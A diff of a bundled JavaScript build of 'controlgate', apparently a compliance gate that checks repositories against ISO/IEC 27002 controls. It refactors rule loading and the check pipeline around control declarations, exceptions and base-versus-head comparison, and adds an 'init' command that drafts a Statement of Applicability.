+        for (const r of raw) {
+            if (skip && r.location && skip(r.location.path))
+                continue;
+            this.findings.push(createFinding(rule, r, summary.severity));
+            summary.findings += 1;
+        }
+        if (summary.result !== 'error')
+            summary.result = summary.findings > 0 ? 'fail' : 'pass';
     }
-    return 0;
-}
-
-;// CONCATENATED MODULE: ./lib/core/version.js
-/** controlgate's version; kept equal to package.json by a test. */
-const VERSION = '0.1.0';
-
-;// CONCATENATED MODULE: ./lib/core/report.js
-
-
-
-/** Assembles the one immutable Report that every reporter and sink reads. */
-function buildReport(input) {
-    const bySeverity = Object.fromEntries(SEVERITIES.map((s) => [s, 0]));
-    const byStatus = { open: 0, excepted: 0, ignored: 0 };
-    for (const f of input.findings) {
-        bySeverity[f.severity] += 1;
-        byStatus[f.status] += 1;
-    }
-    const report = {
-        version: 1,
-        tool: { name: 'controlgate', version: VERSION, informationUri: 'https://github.com/controlgate/controlgate' },
-        repository: { root: input.root, head: input.head, base: input.base },
-        settings: {
-            failOn: input.failOn,
-            config: input.config.file,
-            ruleDirs: input.ruleDirs,
-            include: input.config.include,
-            exclude: input.config.exclude,
-        },
-        rules: input.rules,
-        controls: controlResults(input.rules),
-        findings: input.findings,
-        errors: input.errors,
-        summary: {
-            files: input.files,
-            rules: input.rules.filter((r) => r.result !== 'disabled').length,
-            findings: input.findings.length,
-            open: byStatus.open,
-            blocking: input.findings.filter((f) => f.blocking).length,
-            bySeverity,
-            byStatus,
-            errors: input.errors.length,
-            gate: input.gate,
-        },
-    };
-    return deepFreeze(report);
-}
-function controlResults(rules) {
-    return allControls().map((c) => {
-        const mapped = rules.filter((r) => r.controls.includes(c.id) && r.result !== 'disabled');
-        const findings = mapped.reduce((n, r) => n + r.findings, 0);
-        const result = mapped.length === 0
-            ? 'not-covered'
-            : mapped.some((r) => r.result === 'fail')
-                ? 'fail'
-                : mapped.some((r) => r.result === 'error')
-                    ? 'error'
-                    : 'pass';
-        return {
-            id: c.id,
-            title: c.title,
-            result,
-            rules: mapped.map((r) => ({ id: r.id, result: r.result, findings: r.findings })),
-            findings,
-        };
-    });
-}
-function deepFreeze(value) {
-    if (value && typeof value === 'object' && !Object.isFrozen(value)) {
-        Object.freeze(value);
-        for (const v of Object.values(value))
-            deepFreeze(v);
-    }
-    return value;
 }
 
 ;// CONCATENATED MODULE: ./lib/core/rules/load.js
@@ -25661,27 +40981,52 @@ function loadRules(extraDirs = [], options = {}) {
     const seen = new Map();
     const dirs = [];
     if (options.builtin !== false)
-        dirs.push({ dir: builtinRulesDir(), source: 'builtin' });
-    for (const d of extraDirs)
-        dirs.push({ dir: d, source: d });
-    for (const { dir, source } of dirs) {
+        dirs.push(builtinRulesDir());
+    dirs.push(...extraDirs);
+    for (const d of dirs) {
+        // A sub-directory of the built-in rules (e.g. rules/policy, loaded alone by tests) is built-in too.
+        const builtinRel = typeof d === 'string' ? external_node_path_namespaceObject.relative(builtinRulesDir(), d) : '..';
+        const isBuiltin = !builtinRel.startsWith('..') && !external_node_path_namespaceObject.isAbsolute(builtinRel);
+        const source = isBuiltin ? 'builtin' : typeof d === 'string' ? d : d.dir;
         let files;
-        try {
-            files = listRuleFiles(dir);
+        let read;
+        if (typeof d === 'string') {
+            try {
+                files = listRuleFiles(d);
+            }
+            catch {
+                throw new UsageError(`rule directory not found: ${d} (check "rule-dirs" in .controlgate.yml or --rules)`);
+            }
+            read = (rel) => readRuleFile(external_node_path_namespaceObject.join(d, rel));
         }
-        catch {
-            throw new UsageError(`rule directory not found: ${dir} (check "rule-dirs" in .controlgate.yml or --rules)`);
+        else {
+            const prefix = d.dir.replace(/^\.\//, '').replace(/\/+$/, '');
+            files = d.tree
+                .list(prefix)
+                .filter((f) => /\.ya?ml$/.test(f))
+                .map((f) => f.slice(prefix.length + 1));
+            read = (rel) => {
+                const file = d.tree.read(`${prefix}/${rel}`, MAX_RULE_FILE_BYTES);
+                if (file.kind === 'text')
+                    return { size: Buffer.byteLength(file.text), text: file.text };
+                return { size: file.kind === 'too-large' ? file.size : 0 };
+            };
         }
         for (const rel of files) {
-            const display = source === 'builtin' ? `rules/${rel}` : external_node_path_namespaceObject.join(dir, rel);
-            const rule = loadRuleFile(external_node_path_namespaceObject.join(dir, rel), display, rel, source, problems);
+            const display = isBuiltin
+                ? external_node_path_namespaceObject.posix.join('rules', builtinRel.split(external_node_path_namespaceObject.sep).join('/'), rel)
+                : external_node_path_namespaceObject.join(source, rel);
+            const rule = loadRuleFile(read(rel), display, rel, source, problems);
             if (!rule)
                 continue;
             const previous = seen.get(rule.id);
             if (previous) {
                 problems.push({
                     file: display,
-                    problem: { pointer: '/id', message: `duplicate rule id "${rule.id}" (also defined in ${previous})` },
+                    problem: {
+                        pointer: '/id',
+                        message: `duplicate rule id "${rule.id}" (also defined in ${previous})`,
+                    },
                 });
                 continue;
             }
@@ -25693,14 +41038,19 @@ function loadRules(extraDirs = [], options = {}) {
         throw new RuleLoadError(problems);
     return rules;
 }
-function loadRuleFile(abs, display, rel, source, problems) {
-    const add = (problem) => problems.push({ file: display, problem });
+function readRuleFile(abs) {
     const stat = (0,external_node_fs_namespaceObject.lstatSync)(abs);
-    if (stat.size > MAX_RULE_FILE_BYTES) {
-        add({ pointer: '/', message: `file is larger than ${MAX_RULE_FILE_BYTES} bytes` });
+    if (stat.size > MAX_RULE_FILE_BYTES)
+        return { size: stat.size };
+    return { size: stat.size, text: (0,external_node_fs_namespaceObject.readFileSync)(abs, 'utf8') };
+}
+function loadRuleFile(file, display, rel, source, problems) {
+    const add = (problem) => problems.push({ file: display, problem });
+    if (file.text === undefined) {
+        add({ pointer: '/', message: `file is larger than ${MAX_RULE_FILE_BYTES} bytes or not readable` });
         return undefined;
     }
-    const parsed = parseYaml((0,external_node_fs_namespaceObject.readFileSync)(abs, 'utf8'));
+    const parsed = parseYaml(file.text);
     if (!parsed.ok) {
         add({ pointer: '/', message: `not valid YAML: ${parsed.error.message}`, ...lineCol(parsed.error) });
         return undefined;
@@ -25732,7 +41082,15 @@ function loadRuleFile(abs, display, rel, source, problems) {
         }
     });
     const evaluator = getEvaluator(raw.check.kind);
-    if (!evaluator) {
+    if (source !== 'builtin' && raw.check.kind.startsWith('policy.')) {
+        // The policy kinds report what the engine found in the declarations; a second rule would repeat it.
+        add({
+            pointer: '/check/kind',
+            message: `check kind "${raw.check.kind}" is reserved for controlgate's built-in policy rules`,
+            ...at(doc.span('/check/kind')),
+        });
+    }
+    else if (!evaluator) {
         add({
             pointer: '/check/kind',
             message: `unknown check kind "${raw.check.kind}" (run "controlgate rules --kinds" to list them)`,
@@ -25751,6 +41109,7 @@ function loadRuleFile(abs, display, rel, source, problems) {
         ...raw,
         references: raw.references ?? [],
         tags: raw.tags ?? [],
+        examples: raw.examples ?? [],
         source,
         file: rel,
     };
@@ -25785,285 +41144,11 @@ function lineCol(e) {
     return { line: e.line, column: e.column };
 }
 
-;// CONCATENATED MODULE: ./lib/core/workspace/files.js
-
-
-
-
-/** Directories never indexed: VCS metadata only. Everything else follows .gitignore. */
-const ALWAYS_SKIPPED = new Set(['.git']);
-/** Hard stop for non-git walks, so a hostile tree cannot make the index unbounded. */
-const MAX_WALK_ENTRIES = 500_000;
-/**
- * Lists the files of a tree as sorted POSIX paths relative to `root`: git's index plus untracked,
- * non-ignored files when `root` is the top of a git work tree, else a walk honouring every
- * `.gitignore` on the way. Symbolic links are listed but never followed.
- */
-function listFiles(root) {
-    const fromGit = gitListFiles(root);
-    if (fromGit)
-        return { files: fromGit, source: 'git' };
-    return { files: walk(root), source: 'walk' };
-}
-function gitListFiles(root) {
-    if (!(0,external_node_fs_namespaceObject.existsSync)(external_node_path_namespaceObject.join(root, '.git')))
-        return undefined;
-    try {
-        const out = (0,external_node_child_process_namespaceObject.execFileSync)('git', ['-c', 'core.quotepath=off', 'ls-files', '-z', '--cached', '--others', '--exclude-standard'], { cwd: root, maxBuffer: 1024 * 1024 * 1024, stdio: ['ignore', 'pipe', 'ignore'] });
-        const seen = new Set();
-        for (const name of out.toString('utf8').split('\0')) {
-            if (!name || seen.has(name))
-                continue;
-            // The index can list files deleted from the work tree, and submodules (directories).
-            let stat;
-            try {
-                stat = (0,external_node_fs_namespaceObject.lstatSync)(external_node_path_namespaceObject.join(root, name));
-            }
-            catch {
-                continue;
-            }
-            if (stat.isFile() || stat.isSymbolicLink())
-                seen.add(name);
-        }
-        return [...seen].sort(compareStrings);
-    }
-    catch {
-        return undefined;
-    }
-}
-function walk(root) {
-    const files = [];
-    let budget = MAX_WALK_ENTRIES;
-    const visit = (dir, rules) => {
-        let entries;
-        try {
-            entries = (0,external_node_fs_namespaceObject.readdirSync)(external_node_path_namespaceObject.join(root, dir), { withFileTypes: true });
-        }
-        catch {
-            return;
-        }
-        const local = readGitignore(root, dir);
-        const active = local ? [...rules, { base: dir, ig: local }] : rules;
-        for (const entry of entries) {
-            if (--budget < 0)
-                return;
-            if (ALWAYS_SKIPPED.has(entry.name))
-                continue;
-            const rel = dir ? `${dir}/${entry.name}` : entry.name;
-            const isDir = entry.isDirectory();
-            if (isIgnored(active, rel, isDir))
-                continue;
-            if (isDir)
-                visit(rel, active);
-            else if (entry.isFile() || entry.isSymbolicLink())
-                files.push(rel);
-        }
-    };
-    visit('', []);
-    return files.sort(compareStrings);
-}
-function readGitignore(root, dir) {
-    const file = external_node_path_namespaceObject.join(root, dir, '.gitignore');
-    try {
-        const stat = (0,external_node_fs_namespaceObject.lstatSync)(file);
-        if (!stat.isFile() || stat.size > 1024 * 1024)
-            return undefined;
-        return ignore().add((0,external_node_fs_namespaceObject.readFileSync)(file, 'utf8'));
-    }
-    catch {
-        return undefined;
-    }
-}
-/** As git does: the deepest .gitignore with an opinion (a match or a negation) decides. */
-function isIgnored(rules, rel, isDir) {
-    for (let i = rules.length - 1; i >= 0; i--) {
-        const { base, ig } = rules[i];
-        const sub = base ? rel.slice(base.length + 1) : rel;
-        const verdict = ig.test(isDir ? `${sub}/` : sub);
-        if (verdict.ignored)
-            return true;
-        if (verdict.unignored)
-            return false;
-    }
-    return false;
-}
-/** Code-unit order, so the index is identical across locales and machines. */
-function compareStrings(a, b) {
-    return a < b ? -1 : a > b ? 1 : 0;
-}
-
-;// CONCATENATED MODULE: ./lib/core/workspace/workspace.js
-
-
-
-
-
-
-/** Default cap on bytes read from one file; larger files are listed but not scanned. */
-const DEFAULT_MAX_FILE_BYTES = 1024 * 1024;
-/** Git's heuristic: a NUL byte in the first 8,000 bytes means binary. */
-const BINARY_SNIFF_BYTES = 8000;
-const GLOB_OPTIONS = { dot: true };
-/**
- * The tree under evaluation. One file index per run; each file read at most once and shared by every
- * rule; parsers run once per file. Never follows a symbolic link and never reads outside `root`.
- */
-class Workspace {
-    root;
-    files;
-    indexSource;
-    maxFileBytes;
-    fileSet;
-    contents = new Map();
-    yamlCache = new Map();
-    problems = new Map();
-    matchers = new Map();
-    memos = new Map();
-    constructor(root, options = {}) {
-        this.root = external_node_path_namespaceObject.resolve(root);
-        this.maxFileBytes = options.maxFileBytes ?? DEFAULT_MAX_FILE_BYTES;
-        let files;
-        if (options.files) {
-            files = [...options.files];
-            this.indexSource = 'given';
-        }
-        else {
-            const listed = listFiles(this.root);
-            files = listed.files;
-            this.indexSource = listed.source;
-        }
-        const include = options.include?.length ? picomatch(options.include, GLOB_OPTIONS) : undefined;
-        const exclude = options.exclude?.length ? picomatch(options.exclude, GLOB_OPTIONS) : undefined;
-        this.files = files.filter((f) => (!include || include(f)) && !exclude?.(f));
-        this.fileSet = new Set(this.files);
-    }
-    has(file) {
-        return this.fileSet.has(file);
-    }
-    /** Files matching any of the globs (picomatch syntax, dotfiles included), in index order. */
-    glob(patterns) {
-        const list = typeof patterns === 'string' ? [patterns] : patterns;
-        if (list.length === 0)
-            return [];
-        const match = this.matcher(list);
-        return this.files.filter((f) => match(f));
-    }
-    /** A compiled, cached matcher for a set of globs. */
-    matcher(patterns) {
-        const key = patterns.join('\u0000');
-        let m = this.matchers.get(key);
-        if (!m) {
-            m = picomatch([...patterns], GLOB_OPTIONS);
-            this.matchers.set(key, m);
-        }
-        return m;
-    }
-    /** Reads a file once (cached): text, or the reason it is not scanned as text. */
-    read(file) {
-        let content = this.contents.get(file);
-        if (!content) {
-            content = this.load(file);
-            this.contents.set(file, content);
-        }
-        return content;
-    }
-    /** The file's text, or undefined when it is binary, too large, a symlink or unreadable. */
-    text(file) {
-        const c = this.read(file);
-        return c.kind === 'text' ? c.text : undefined;
-    }
-    /** Parsed YAML (cached). A parse failure is also recorded as an input problem of the file. */
-    yaml(file) {
-        const cached = this.yamlCache.get(file);
-        if (cached)
-            return cached;
-        const text = this.text(file);
-        if (text === undefined)
-            return undefined;
-        const result = parseYaml(text);
-        this.yamlCache.set(file, result);
-        if (!result.ok)
-            this.reportProblem({ path: file, ...result.error });
-        return result;
-    }
-    /**
-     * Caches the result of a parser (or any per-file computation) so that every rule shares it:
-     * `workspace.memo('dockerfile', file, () => parseDockerfile(text))`.
-     */
-    memo(kind, file, compute) {
-        const key = `${kind}\u0000${file}`;
-        if (this.memos.has(key))
-            return this.memos.get(key);
-        const value = compute();
-        this.memos.set(key, value);
-        return value;
-    }
-    /** Records a located problem with an input file; the first problem per file wins. */
-    reportProblem(problem) {
-        if (!this.problems.has(problem.path))
-            this.problems.set(problem.path, problem);
-    }
-    /** Problems recorded so far, sorted by path. */
-    inputProblems() {
-        return [...this.problems.values()].sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
-    }
-    load(file) {
-        if (!this.fileSet.has(file) || !isSafeRelative(file)) {
-            return { kind: 'unreadable', reason: 'not in the workspace index' };
-        }
-        const abs = external_node_path_namespaceObject.join(this.root, file);
-        let fd;
-        try {
-            const st = (0,external_node_fs_namespaceObject.lstatSync)(abs);
-            if (st.isSymbolicLink())
-                return { kind: 'symlink' };
-            if (!st.isFile())
-                return { kind: 'unreadable', reason: 'not a regular file' };
-            // A parent directory may itself be a symlink pointing out of the tree.
-            const real = (0,external_node_fs_namespaceObject.realpathSync)(abs);
-            const realRoot = (0,external_node_fs_namespaceObject.realpathSync)(this.root);
-            if (real !== realRoot && !real.startsWith(realRoot + external_node_path_namespaceObject.sep)) {
-                return { kind: 'symlink' };
-            }
-            fd = (0,external_node_fs_namespaceObject.openSync)(abs, 'r');
-            const size = (0,external_node_fs_namespaceObject.fstatSync)(fd).size;
-            const sniff = Buffer.alloc(Math.min(size, BINARY_SNIFF_BYTES));
-            const sniffed = (0,external_node_fs_namespaceObject.readSync)(fd, sniff, 0, sniff.length, 0);
-            const head = sniff.subarray(0, sniffed);
-            if (head.includes(0))
-                return { kind: 'binary', size, head };
-            if (size > this.maxFileBytes)
-                return { kind: 'too-large', size };
-            const buf = Buffer.alloc(size);
-            let read = 0;
-            while (read < size) {
-                const n = (0,external_node_fs_namespaceObject.readSync)(fd, buf, read, size - read, read);
-                if (n === 0)
-                    break;
-                read += n;
-            }
-            let text = buf.subarray(0, read).toString('utf8');
-            if (text.charCodeAt(0) === 0xfeff)
-                text = text.slice(1);
-            return { kind: 'text', text, lines: new LineIndex(text) };
-        }
-        catch (err) {
-            return { kind: 'unreadable', reason: err.code ?? String(err) };
-        }
-        finally {
-            if (fd !== undefined)
-                (0,external_node_fs_namespaceObject.closeSync)(fd);
-        }
-    }
-}
-/** Rejects absolute paths and any `..` segment. */
-function isSafeRelative(file) {
-    if (external_node_path_namespaceObject.isAbsolute(file) || file.includes('\0'))
-        return false;
-    return !file.split(/[\\/]/).includes('..');
-}
-
 ;// CONCATENATED MODULE: ./lib/core/engine.js
+
+
+
+
 
 
 
@@ -26079,10 +41164,12 @@ function isSafeRelative(file) {
 /** The kind evaluated after all others, because it reports what they could not parse. */
 const LAST_KIND = 'core.input-problems';
 const DEFAULT_FAIL_ON = 'high';
+const DEFAULT_EXCEPTION_MAX_DAYS = 365;
 /**
- * Runs the pipeline up to the Report: settings -> config -> rules -> workspace -> evaluate -> gate.
- * Throws {@link UsageError} for problems the user must fix (missing path, invalid config or rules).
- * A rule that throws is recorded as that rule's error and the run goes on.
+ * Runs the pipeline up to the Report: settings -> policy -> rules -> workspace -> evaluate -> triage
+ * -> assess -> gate. Throws {@link UsageError} for problems the user must fix (missing path, invalid
+ * config or rules). A broken declarations file is a blocking finding, not an error, so the Action
+ * reports it where it is. A rule that throws is recorded as that rule's error and the run goes on.
  */
 async function runCheck(options) {
     const log = options.logger ?? silentLogger;
@@ -26090,12 +41177,13 @@ async function runCheck(options) {
     if (!(0,external_node_fs_namespaceObject.existsSync)(root) || !(0,external_node_fs_namespaceObject.statSync)(root).isDirectory()) {
         throw new UsageError(`path not found or not a directory: ${options.root}`);
     }
-    const config = loadConfig(root, options.configPath);
-    const ruleDirs = [
-        ...config.ruleDirs.map((d) => external_node_path_namespaceObject.resolve(root, d)),
-        ...(options.ruleDirs ?? []).map((d) => external_node_path_namespaceObject.resolve(d)),
-    ];
-    let rules = loadRules(ruleDirs, { builtin: options.builtinRules !== false });
+    const policy = loadPolicy({ ...engine_pick(options), root, logger: log });
+    const config = policy.active.config;
+    const builtin = options.builtinRules !== false;
+    if (policy.source === 'base' && headRulesDiffer(policy))
+        loadRules(policy.head.ruleDirs, { builtin });
+    const allRules = loadRules(policy.active.ruleDirs, { builtin });
+    let rules = allRules;
     if (options.onlyRules) {
         const wanted = new Set(options.onlyRules);
         const unknown = options.onlyRules.filter((id) => !rules.some((r) => r.id === id));
@@ -26109,6 +41197,9 @@ async function runCheck(options) {
         }
     }
     const failOn = options.failOn ?? config.failOn ?? DEFAULT_FAIL_ON;
+    const failOnGap = options.failOnGap ?? config.failOnGap ?? true;
+    const requireDeclarations = options.requireDeclarations ?? config.requireDeclarations ?? 'none';
+    const exceptionMaxDays = options.exceptionMaxDays ?? config.exceptionMaxDays ?? DEFAULT_EXCEPTION_MAX_DAYS;
     const workspace = new Workspace(root, {
         include: config.include,
         exclude: config.exclude,
@@ -26116,71 +41207,154 @@ async function runCheck(options) {
         ...(options.files ? { files: options.files } : {}),
     });
     log.debug(`indexed ${workspace.files.length} files (${workspace.indexSource})`);
-    const findings = [];
-    const errors = [];
-    const summaries = [];
-    const ordered = [...rules].sort((a, b) => Number(a.check.kind === LAST_KIND) - Number(b.check.kind === LAST_KIND));
-    for (const rule of ordered) {
-        const summary = await evaluateRule(rule, config, workspace, findings, errors);
-        summaries.push(summary);
+    const repo = GitRepository.open(root);
+    const defaultBranch = options.defaultBranch ?? repo?.defaultBranch();
+    const check = checkDeclarations(policy.active.declarations, policy.active.controlsFile, {
+        workspace,
+        today: utcDay(options.now ?? new Date()),
+        requireDeclarations,
+        exceptionMaxDays,
+        defaultBranches: defaultBranch ? [defaultBranch] : ['main', 'master'],
+        ruleIds: new Set(allRules.map((r) => r.id)),
+    });
+    const problems = [
+        ...(policy.head.declarations?.problems ?? []),
+        ...check.problems,
+        ...(policy.source === 'base' ? policyChanges(policy.active, policy.head, allRules) : []),
+    ];
+    const context = {
+        of: (kind) => problems.filter((p) => p.kind === kind).map(toRaw),
+        ...(policy.source === 'base' ? { base: policy.active.tree } : {}),
+    };
+    const policyRules = new Map();
+    for (const r of rules) {
+        const kind = policyKind(r.check.kind);
+        if (kind)
+            policyRules.set(r.id, kind);
     }
+    const run = new RuleRun(config, workspace, context, log, options.github);
+    const ordered = [...rules].sort((a, b) => Number(a.check.kind === LAST_KIND) - Number(b.check.kind === LAST_KIND));
+    const skipped = [];
+    for (const rule of ordered) {
+        const notApplicable = !policyRules.has(rule.id) && rule.controls.every((c) => check.notApplicable.has(c));
+        if (notApplicable)
+            skipped.push(`${rule.id} (${rule.controls.join(', ')})`);
+        await run.evaluate(rule, notApplicable);
+    }
+    triage({
+        findings: run.findings,
+        exceptions: check.exceptions,
+        workspace,
+        protectedRules: new Set(policyRules.keys()),
+    });
+    const findings = run.findings;
     dedupeFingerprints(findings);
+    const change = options.change
+        ? await judgeChange(findings, options.change, {
+            head: workspace,
+            include: config.include,
+            exclude: config.exclude,
+            exempt: new Set(rules.filter((r) => r.check.kind.startsWith('github.')).map((r) => r.id)),
+            alwaysNew: new Set([...policyRules].filter(([, k]) => k === 'changes').map(([id]) => id)),
+            // The same rules and settings over the base tree, minus the ones judged without it.
+            async evaluateBase(base) {
+                const baseRun = new RuleRun(config, base, context, silentLogger);
+                for (const rule of ordered) {
+                    if (rule.check.kind.startsWith('github.') || policyRules.get(rule.id) === 'changes')
+                        continue;
+                    const notApplicable = !policyRules.has(rule.id) && rule.controls.every((c) => check.notApplicable.has(c));
+                    await baseRun.evaluate(rule, notApplicable);
+                }
+                dedupeFingerprints(baseRun.findings);
+                return baseRun.findings;
+            },
+        })
+        : undefined;
+    if (change && change.judged.method !== 'none') {
+        log.info(`new versus existing (${change.judged.method === 'base-tree' ? `base tree ${change.judged.commit.slice(0, 12)}` : `changed lines: ${change.judged.reason}`}): ${change.counts.new} new, ${change.counts.existing} existing`);
+    }
     findings.sort(compareFindings);
-    const gate = applyGate(findings, failOn);
-    summaries.sort((a, b) => (a.id < b.id ? -1 : a.id > b.id ? 1 : 0));
+    const summaries = run.summaries.sort((a, b) => (a.id < b.id ? -1 : a.id > b.id ? 1 : 0));
+    const controls = assessControls({ rules: summaries, findings, errors: run.errors, check, policyRules });
+    const alwaysBlocking = new Set([...policyRules].filter(([, k]) => k === 'declarations-file').map(([id]) => id));
+    const gate = applyGate(findings, failOn, {
+        failOnGap,
+        controls,
+        policyRules,
+        alwaysBlocking,
+        scope: options.change?.scope ?? 'all',
+    });
+    const notices = [...(policy.active.declarations?.notices ?? []), ...check.notices];
+    if (skipped.length > 0) {
+        notices.push(`rules skipped because every control they map to is declared not-applicable: ${skipped.join(', ')}`);
+    }
+    const warnings = [...policy.warnings];
+    const broken = policy.head.declarations?.problems ?? [];
+    if (broken.length > 0) {
+        // Also a blocking finding; said here too so the reason the gate fails is the first thing read.
+        const first = broken[0];
+        const where = first.location
+            ? `${first.location.path}:${first.location.startLine}`
+            : policy.head.controlsFile;
+        warnings.push(`The declarations file is invalid (${broken.length} problem${broken.length === 1 ? '' : 's'}; first at ${where}), so the gate fails until it is fixed.`);
+    }
+    if (policy.source === 'base' && (policy.active.declarations?.problems.length ?? 0) > 0) {
+        warnings.push(`The base commit's declarations file ${policy.active.controlsFile} has problems; the controls it cannot declare are unverifiable until a fixed version is merged.`);
+    }
+    // loadPolicy has logged its own warnings already.
+    for (const w of warnings.slice(policy.warnings.length))
+        log.warning(w);
+    for (const n of notices)
+        log.info(n);
     return buildReport({
         root: options.root,
-        head: gitHead(root),
-        base: null,
+        head: repo?.head() ?? null,
+        base: policy.base ?? options.base ?? null,
         config,
         failOn,
-        ruleDirs,
+        failOnGap,
+        requireDeclarations,
+        exceptionMaxDays,
+        controlsFile: policy.active.controlsFile,
+        ruleDirs: policy.active.ruleDirs.map((d) => (typeof d === 'string' ? d : d.dir)),
         rules: summaries,
+        controls,
+        policy: {
+            source: policy.source,
+            base: policy.base,
+            controls: policy.active.declarations ? policy.active.controlsFile : null,
+            warnings,
+            notices,
+        },
         findings,
-        errors,
+        errors: run.errors,
         gate,
         files: workspace.files.length,
     });
 }
-async function evaluateRule(rule, config, workspace, findings, errors) {
-    const settings = config.rules[rule.id] ?? {};
-    const severity = settings.severity ?? rule.severity;
-    const summary = {
-        id: rule.id,
-        title: rule.title,
-        severity,
-        controls: rule.controls,
-        rationale: rule.rationale,
-        remediation: rule.remediation,
-        helpUri: helpUri(rule.id),
-        source: rule.source,
-        result: 'pass',
-        findings: 0,
+function toRaw(p) {
+    const { kind: _kind, ...raw } = p;
+    return raw;
+}
+function engine_pick(o) {
+    return {
+        ...(o.configPath ? { configPath: o.configPath } : {}),
+        ...(o.controlsPath ? { controlsPath: o.controlsPath } : {}),
+        ...(o.ruleDirs ? { ruleDirs: o.ruleDirs } : {}),
+        ...(o.base ? { base: o.base } : {}),
+        ...(o.baseTree ? { baseTree: o.baseTree } : {}),
     };
-    if (settings.enabled === false) {
-        summary.result = 'disabled';
-        return summary;
-    }
-    const evaluator = getEvaluator(rule.check.kind);
-    try {
-        if (!evaluator)
-            throw new Error(`no evaluator for kind "${rule.check.kind}"`);
-        const raw = await evaluator.evaluate({ rule, options: rule.check.with ?? {}, workspace });
-        const skip = settings.exclude?.length ? picomatch(settings.exclude, { dot: true }) : undefined;
-        for (const r of raw) {
-            if (skip && r.location && skip(r.location.path))
-                continue;
-            findings.push(createFinding(rule, r, severity));
-            summary.findings += 1;
-        }
-        summary.result = summary.findings > 0 ? 'fail' : 'pass';
-    }
-    catch (err) {
-        summary.result = 'error';
-        const message = err instanceof Error ? err.message : String(err);
-        errors.push({ ruleId: rule.id, message: `internal error while evaluating: ${message}` });
-    }
-    return summary;
+}
+/** Whether the head's custom rules differ from the base's, so they must be validated separately. */
+function headRulesDiffer(policy) {
+    const a = policy.active.ruleFiles;
+    const b = policy.head.ruleFiles;
+    if (a.size !== b.size || policy.active.ruleDirs.length !== policy.head.ruleDirs.length)
+        return true;
+    for (const [file, hash] of a)
+        if (b.get(file) !== hash)
+            return true;
+    return false;
 }
 /** Two occurrences with the same identity get an ordinal, so every fingerprint is unique. */
 function dedupeFingerprints(findings) {
@@ -26211,17 +41385,158 @@ function compareFindings(a, b) {
         return ca - cb;
     return a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0;
 }
-function gitHead(root) {
-    if (!(0,external_node_fs_namespaceObject.existsSync)(external_node_path_namespaceObject.join(root, '.git')))
-        return null;
-    try {
-        return (0,external_node_child_process_namespaceObject.execFileSync)('git', ['rev-parse', 'HEAD'], { cwd: root, stdio: ['ignore', 'pipe', 'ignore'] })
-            .toString()
-            .trim();
+
+;// CONCATENATED MODULE: ./lib/core/declarations/init.js
+/**
+ * `controlgate init`: a draft declarations file for a repository that has none. Every one of the 34
+ * controls gets an entry. Evidence comes from the rules themselves, so the draft follows the rule set
+ * rather than a second list: a passing rule that looks for something (a `file.exists` rule such as
+ * CODEOWNERS or Dependabot, a `workflow.pr-evidence` rule such as SAST on pull requests) cites what it
+ * found as evidence for its controls. A control with evidence and no failing rule is drafted as
+ * implemented; everything else as planned with a TODO, because only a person can decide it.
+ */
+
+
+
+
+
+
+
+
+
+
+
+/** The schema line editors read (yaml-language-server, and the YAML extensions built on it). */
+const SCHEMA_COMMENT = '# yaml-language-server: $schema=https://raw.githubusercontent.com/controlgate/controlgate/main/schemas/controls.schema.json';
+const MAX_EVIDENCE = 4;
+/** Drafts the declarations file of the repository at `root` (nothing is written). */
+async function draftDeclarations(options) {
+    const config = loadConfig(options.root);
+    const file = (options.controlsPath ?? config.controls ?? DEFAULT_CONTROLS_FILE).replace(/^\.\//, '');
+    const report = await runCheck({
+        root: options.root,
+        controlsPath: file,
+        failOn: 'never',
+        failOnGap: false,
+        ...(options.ruleDirs ? { ruleDirs: options.ruleDirs } : {}),
+        ...(options.now ? { now: options.now } : {}),
+    });
+    const rules = loadRules([
+        ...config.ruleDirs.map((d) => external_node_path_namespaceObject.resolve(options.root, d)),
+        ...(options.ruleDirs ?? []),
+    ]);
+    const workspace = new Workspace(options.root, { include: config.include, exclude: config.exclude });
+    const found = collectEvidence(report, rules, workspace);
+    const today = utcDay(options.now ?? new Date());
+    const implemented = [];
+    const lines = [
+        SCHEMA_COMMENT,
+        `# Statement of Applicability for the ISO/IEC 27002:2022 technological controls (8.1-8.34), drafted`,
+        `# by \`controlgate init\` on ${today}. Review every entry before committing it: statuses were inferred`,
+        '# from what controlgate found in the repository. Replace each TODO with a decision and its reason.',
+        'version: 1',
+        `scope: ${q(`${baseName(options.root)} repository`)}`,
+        `owner: ${q(codeOwner(workspace) ?? 'TODO: the team accountable for these declarations')}`,
+        `approved-by: ${q('TODO: who approves this Statement of Applicability')}`,
+        `# reviewed: ${today}   # set when the declarations are approved`,
+        'controls:',
+    ];
+    for (const c of allControls()) {
+        const control = report.controls.find((x) => x.id === c.id);
+        const evidence = found.get(c.id);
+        const failing = control.rules.filter((r) => r.result === 'fail').map((r) => r.id);
+        lines.push(`  ${q(c.id)}: # ${c.title}`);
+        if (evidence && failing.length === 0) {
+            implemented.push(c.id);
+            lines.push('    status: implemented');
+            lines.push(`    justification: ${q(`controlgate found: ${evidence.because.join('; ')}.`)}`);
+            lines.push(`    evidence: [${evidence.evidence.slice(0, MAX_EVIDENCE).map(q).join(', ')}]`);
+            continue;
+        }
+        lines.push('    status: planned');
+        const checks = control.rules.length
+            ? ` controlgate checks it with ${control.rules.length === 1 ? 'one rule' : `${control.rules.length} rules`}; ${failing.length ? `failing: ${failing.join(', ')}` : 'none fails'}.`
+            : ' No controlgate rule checks it: cite your evidence (documents, workflows, URLs).';
+        const why = evidence
+            ? `TODO: evidence found (${evidence.evidence.slice(0, MAX_EVIDENCE).join(', ')}), but ${failing.join(', ')} ${failing.length === 1 ? 'fails' : 'fail'}; fix, then declare implemented.`
+            : `TODO: decide implemented, partial, planned or not-applicable, and say why.${checks}`;
+        lines.push(`    justification: ${q(why)}`);
+        lines.push(`    # due: ${addDays(today, 90)}`);
     }
-    catch {
-        return null;
+    lines.push('# Approved risk acceptances, e.g.:', '#  - id: EXC-0001', '#    rules: [dockerfile-root-user]', '#    paths: ["legacy/**"]', '#    reason: Legacy image, removal tracked in TICKET-123', '#    approved-by: "@org/security"', `#    expires: ${addDays(today, 90)}`, 'exceptions: []', '');
+    return { file, text: lines.join('\n'), implemented };
+}
+/** Evidence per control from passing rules that look for something. */
+function collectEvidence(report, rules, workspace) {
+    const out = new Map();
+    const add = (controls, evidence, because) => {
+        if (evidence.length === 0)
+            return;
+        for (const id of controls) {
+            const f = out.get(id) ?? { evidence: [], because: [] };
+            for (const e of evidence)
